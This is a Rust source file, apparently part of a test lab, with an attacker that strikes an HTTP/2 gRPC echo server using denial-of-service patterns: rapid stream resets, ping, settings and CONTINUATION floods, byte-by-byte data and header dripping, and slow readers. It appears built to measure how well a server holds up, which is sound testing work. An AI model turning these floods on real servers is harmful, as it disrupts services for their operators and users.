//! The attacks, strike by strike: a strike takes some tens of microseconds.
//!
//! It refuses to keep to a rate: whoever calls it does.

use std::{collections::VecDeque, net::SocketAddr, time::Duration};

use lab_common::{Attack, Failure, burn};
use sinew::testing::{Conn, ErrorCode, Fields, FloodEnd, Frame, Peer, Setting};

/// Frames of a strike; small ones are some hundred bytes together.
const BATCH: u32 = 32;

/// Connections of the attacks that need several.
const CONNECTIONS: usize = 16;

/// Bytes of a message that comes byte by byte.
const DRIPPED: u32 = 16 << 10;

/// Bytes that a reply to nobody who reads it has.
const UNREAD: usize = 12 << 10;

/// A server that takes nothing for so long is left alone: the next strike goes to a new connection.
const STALLED: Duration = Duration::from_millis(5);

/// CPU time of a strike that strikes nobody.
const IDLE: Duration = Duration::from_micros(50);

const PATH: &str = "/lab.v1.Echo/Unary";

/// An attacker, with the connections that the server still takes.
pub(crate) struct Attacker {
    server: SocketAddr,
    attack: Attack,
    lines: VecDeque<Line>,
}

/// A connection of an attacker.
struct Line {
    conn: Conn,
    /// What is under way on it: the stream, and how much of it was sent.
    stream: u32,
    sent: u32,
}

impl Attacker {
    pub(crate) fn new(server: SocketAddr, attack: Attack) -> Self {
        Self {
            server,
            attack,
            lines: VecDeque::new(),
        }
    }

    /// Strikes once.
    ///
    /// # Errors
    /// When the server takes no connection any more: it is gone.
    pub(crate) async fn strike(&mut self) -> Result<(), Failure> {
        let connections = match self.attack {
            Attack::Nothing => {
                burn(IDLE);
                return Ok(());
            }
            Attack::SlowHeads | Attack::SlowReaders => CONNECTIONS,
            _ => 1,
        };
        let is_new = self.lines.len() < connections;
        let mut line = match self.lines.pop_front().filter(|_| !is_new) {
            Some(line) => line,
            None => self.connect().await?,
        };
        let end = match self.attack {
            Attack::SlowHeads => line.byte_of_a_head().await,
            attack => {
                let frames = line.frames(attack);
                line.conn.flood(frames).await.end
            }
        };
        if end == FloodEnd::All {
            self.lines.push_back(line);
        }
        Ok(())
    }

    async fn connect(&self) -> Result<Line, Failure> {
        let connected = Peer::connect(self.server).await;
        let mut conn = connected.map_err(|failed| Failure::new(failed.to_string()))?;
        conn.within(STALLED);
        conn.reads(!matches!(self.attack, Attack::SlowReaders));
        Ok(Line {
            conn,
            stream: 0,
            sent: 0,
        })
    }
}

impl Line {
    fn frames(&mut self, attack: Attack) -> Vec<Frame> {
        let batch = || 0..BATCH;
        match attack {
            Attack::Nothing | Attack::SlowHeads => Vec::new(),
            Attack::Resets => batch()
                .flat_map(|_| {
                    let stream = self.conn.new_stream();
                    [head(stream), Frame::reset(stream, ErrorCode::Cancel)]
                })
                .collect(),
            Attack::Pings => batch().map(|_| Frame::ping([0; 8])).collect(),
            Attack::Settings => batch()
                .map(|n| Frame::settings(&[(Setting::InitialWindowSize, 65_535 + n)]))
                .collect(),
            Attack::Continuations => {
                let stream = self.conn.new_stream();
                let block = Fields::request(PATH).encode();
                let more = batch().map(|_| Frame::continuation(stream, "", false));
                [Frame::headers_part(stream, block, false)]
                    .into_iter()
                    .chain(more)
                    .collect()
            }
            Attack::TinyData => self.bytes_of_a_message(),
            Attack::SlowReaders => {
                let stream = self.conn.new_stream();
                // EchoMsg.payload, field 1, and its length as a varint of two bytes.
                let mut message = vec![0x0a, (UNREAD & 0x7f) as u8 | 0x80, (UNREAD >> 7) as u8];
                message.resize(message.len() + UNREAD, 0x5a);
                vec![head(stream), Frame::message(stream, message, true)]
            }
        }
    }

    /// Some frames of DATA, each with a byte of one message.
    fn bytes_of_a_message(&mut self) -> Vec<Frame> {
        let mut frames = Vec::new();
        if self.stream == 0 || self.sent == DRIPPED {
            (self.stream, self.sent) = (self.conn.new_stream(), 0);
            let [a, b, c, d] = DRIPPED.to_be_bytes();
            frames.push(head(self.stream));
            frames.push(Frame::data(self.stream, vec![0, a, b, c, d], false));
        }
        for _ in 0..BATCH.min(DRIPPED - self.sent) {
            self.sent += 1;
            let is_last = self.sent == DRIPPED;
            frames.push(Frame::data(self.stream, &b"x"[..], is_last));
        }
        frames
    }

    async fn byte_of_a_head(&mut self) -> FloodEnd {
        if self.stream == 0 {
            self.stream = self.conn.new_stream();
        }
        let head = head(self.stream).encode();
        let at = self.sent as usize % head.len();
        let sent = self.conn.raw(&head[at..=at]).await;
        self.sent += 1;
        if at + 1 == head.len() {
            // The call never gets its message: it is given up, and the next head begins.
            let stream = std::mem::take(&mut self.stream);
            self.sent = 0;
            let reset = Frame::reset(stream, ErrorCode::Cancel);
            return self.conn.flood([reset]).await.end;
        }
        match sent {
            Ok(()) => FloodEnd::All,
            Err(_) => FloodEnd::Closed,
        }
    }
}

fn head(stream: u32) -> Frame {
    Frame::headers(stream, &Fields::request(PATH), false)
}
